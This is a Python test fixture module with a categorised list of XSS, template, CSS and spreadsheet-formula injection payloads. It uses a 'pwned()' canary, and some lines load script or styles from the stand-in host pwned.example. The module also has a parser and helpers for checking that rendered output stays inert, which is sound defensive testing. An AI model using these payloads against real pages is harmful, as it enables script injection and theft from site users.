"""Text that would be more than text on a page that let it: our own selection from the classes of OWASP's cheat sheets.

Each would, where it became markup, a link, a style, a template or a cell's formula, do what tests look for: call `pwned()`, or leave
an element, an attribute or an address with that word in it.
"""

from dataclasses import fields, is_dataclass, replace
from html.parser import HTMLParser
from itertools import batched
from types import UnionType
from typing import Any, Final, get_args, get_origin

from kindward.records import Record

CANARY: Final = "pwned"
"""What stands in every vector, in lower case where the markup is."""
MARKED: Final = "Zebra"
"""What stands in every odd text beside what is odd in it."""


def _vectors(text: str) -> tuple[str, ...]:
    return tuple(line.strip() for line in text.strip().splitlines())


SCRIPTS: Final = _vectors("""
    <script>pwned()</script>
    <ScRiPt src=//pwned.example/x.js></sCrIpT>
    <scr<script>ipt>pwned()</scr</script>ipt>
    <script/x type=module>pwned()</script >
    <script>/*</title></style></textarea>*/pwned()</script>
    <noscript><p title="</noscript><script>pwned()</script>">
""")
HANDLERS: Final = _vectors("""
    <img src=x onerror=pwned()>
    <img src="x" onerror="&#112;wned()">
    <body onload=pwned()><details open ontoggle=pwned()>
    <input autofocus onfocus=pwned()><select autofocus onfocus=pwned()>
    <marquee onstart=pwned()>x</marquee><video><source onerror=pwned()></video>
    <div onpointerenter=pwned() style=position:fixed;inset:0>x</div>
    <x onanimationstart=pwned() style=animation-name:kw-pace>
    <IMG/SRC=x/ONERROR=pwned()//>
""")
DRAWINGS: Final = _vectors("""
    <svg onload=pwned()>
    <svg><script>pwned()</script></svg>
    <svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>
    <svg><animate attributeName=href values=javascript:pwned() onbegin=pwned()>
    <svg><use href="data:image/svg+xml,<svg id=x onload=pwned() />#x">
    <math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>
""")
LINKS: Final = _vectors("""
    javascript:pwned()
    JaVaScRiPt:pwned()//
    java&#x09;script:pwned()
    javascript://%0apwned()
    <a href="javascript:pwned()">x</a>
    <a href=" &#14; javascript:pwned()">x</a>
    <a href="data:text/html,<script>pwned()</script>" target=_top>x</a>
    <a href=vbscript:pwned() ping=//pwned.example>x</a>
    data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+#pwned
    //pwned.example/../../x
""")
FRAMES: Final = _vectors("""
    <iframe srcdoc="<script>parent.pwned()</script>"></iframe>
    <iframe src=javascript:parent.pwned()></iframe>
    <object data="data:text/html,<script>pwned()</script>"></object>
    <embed src=javascript:pwned()>
    <base href=//pwned.example/>
    <meta http-equiv=refresh content="0;url=javascript:pwned()">
    <link rel=stylesheet href=//pwned.example/x.css>
    <form action=javascript:pwned()><button>x</button></form>
    <button form=x formaction=javascript:pwned() data-press=erase-everything-now>pwned</button>
""")
BREAKOUTS: Final = _vectors("""
    "><img src=x onerror=pwned()>
    '><img src=x onerror=pwned()>
    " autofocus onfocus=pwned() x="
    ' autofocus onfocus=pwned() x='
    ` onfocus=pwned() x=`
    </textarea><img src=x onerror=pwned()>
    </p></section></form></main><script>pwned()</script>
    --><script>pwned()</script><!--
    ]]><script>pwned()</script>
    </title></style><script>pwned()</script>
    <section data-practice=pwned id=pwned data-state=static><form>
""")
MUTATIONS: Final = _vectors("""
    <math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned()>">
    <svg></p><style><a id="</style><img src=x onerror=pwned()>">
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>
    <listing>&lt;img src=x onerror=pwned()&gt;</listing>
    <template><s><template><s><img src=x onerror=pwned()>
    <img alt="``onload=pwned()">
""")
ENCODED: Final = _vectors("""
    &lt;script&gt;pwned()&lt;/script&gt;
    &#60;img src=x onerror=pwned()&#62;
    %3Cscript%3Epwned()%3C/script%3E
    \\u003cimg src=x onerror=pwned()\\u003e
    \\x3cscript\\x3epwned()\\x3c/script\\x3e
    +ADw-script+AD4-pwned()+ADw-/script+AD4-
    ＜script＞pwned()＜/script＞
    &amp;lt;script&amp;gt;pwned()
""")
TEMPLATES: Final = _vectors("""
    {{ 7 * 7 }}{{ pwned() }}{% set pwned = 1 %}{# pwned #}
    ${pwned()}#{pwned()}<%= pwned() %>
    {{constructor.constructor('pwned()')()}}
    {0.__class__}{pwned!r:>9}%(pwned)s%s$pwned
    [x](javascript:pwned()) ![x](x"onerror="pwned())
    \\1\\g<0>\\g<pwned>
    /// practice | pwned
""")
STYLES: Final = _vectors("""
    <style>@import'//pwned.example/x.css';body{display:none}</style>
    <p style="background:url(javascript:pwned());behavior:url(#pwned)">x</p>
    expression(pwned());x:url(//pwned.example)
    </style><style>*{display:none}/*pwned*/
""")
CELLS: Final = _vectors("""
    =HYPERLINK("//pwned.example","x")
    +pwned|' /C calc'!A0
    -pwned()
    @SUM(pwned)
""")
NAMES: Final = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__class__", "length", "valueOf")
"""Names that every object of JavaScript or Python has already."""

CLASSES: Final[dict[str, tuple[str, ...]]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "drawings": DRAWINGS,
    "links": LINKS,
    "frames": FRAMES,
    "breakouts": BREAKOUTS,
    "mutations": MUTATIONS,
    "encoded": ENCODED,
    "templates": TEMPLATES,
    "styles": STYLES,
    "cells": CELLS,
}
VECTORS: Final = tuple(vector for some in CLASSES.values() for vector in some)
TEXTS: Final = (*VECTORS, *(f"\n{'  '.join(some)}" for some in batched(VECTORS, 20, strict=False)))
"""Each vector by itself, and many in one text."""

ODD: Final[dict[str, str]] = {
    "direction marks": "Zebra \u202etxet eht snrut \u2066inside\u2069\u202c \u200e\u200f\u061c end",
    "half a character": "Zebra \ud83d and \ude00 alone, and turned: \ude00\ud83d.",
    "right to left": "Zebra שלום עולם، مَرْحَبًا بِكَ ۱۲۳",
    "wide": "Zebra 私は大丈夫です。你好，世界。괜찮아요 ｶﾅ ㊗",
    "combining": "Zebra e\u0301 é A\u030a Å ﬁ Z\u0351\u036b\u0343\u036a\u0302 ç\u0327",
    "joined": "Zebra 👩🏽\u200d❤️\u200d💋\u200d👨🏿 🏳️\u200d🌈 👨\u200d👩\u200d👧 ☹\ufe0e ☹\ufe0f 🇺🇸",
    "unseen": "Zebra \ufeff\u200b\u00ad\u2060\u00a0\u3000\u2028\u2029\u0085 end",
    "beyond": "Zebra \U0010ffff \U000e0041 \uffff \ufffe \ufffd",
}
"""Text that is odd and harms nobody: it is kept to the last unit."""


# --- what stands on a page -------------------------------------------------------------------------------------------


class Drawn(HTMLParser):
    """What a piece of HTML holds, as a parser sees it: elements, attributes, addresses and what is to be read."""

    ADDRESSES: Final = frozenset(
        {
            "href",
            "src",
            "action",
            "formaction",
            "data",
            "srcdoc",
            "xlink:href",
            "ping",
            "poster",
            "srcset",
            "background",
        }
    )

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.kinds: set[tuple[str, str]] = set()
        """Each element with each of its attributes, and with "" by itself."""
        self.addresses: set[str] = set()
        self.read: list[str] = []
        """Texts, and the values of attributes."""
        self.others: list[str] = []
        """Comments and declarations: nothing of ours has any."""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.kinds |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        self.addresses |= {value or "" for name, value in attrs if name in self.ADDRESSES}
        self.read += [value or "" for name, value in attrs if name not in self.ADDRESSES]

    def handle_data(self, data: str) -> None:
        self.read.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


# --- records ---------------------------------------------------------------------------------------------------------


def filled[R: Record](cls: type[R], text: str, **given: Any) -> R:
    """A record of type `cls` with `text` wherever a text may stand, but for what is `given`."""
    return replace(_value(cls, text), **given)  # type: ignore[no-any-return]


def _value(kind: Any, text: str) -> Any:
    kind = getattr(kind, "__value__", kind)  # a `type` alias stands for its value
    if is_dataclass(kind):
        return kind(**{field.name: _value(field.type, text) for field in fields(kind)})  # type: ignore[operator]
    if (origin := get_origin(kind)) is UnionType:
        return _value(get_args(kind)[0], text)
    if origin is tuple:
        return (_value(get_args(kind)[0], text),)
    if origin is not None:  # a mapping of answers by their fields' names
        return {text: text, "many": (text, text), **dict.fromkeys(NAMES, text)}
    return {str: text, int: 5, bool: True}[kind]
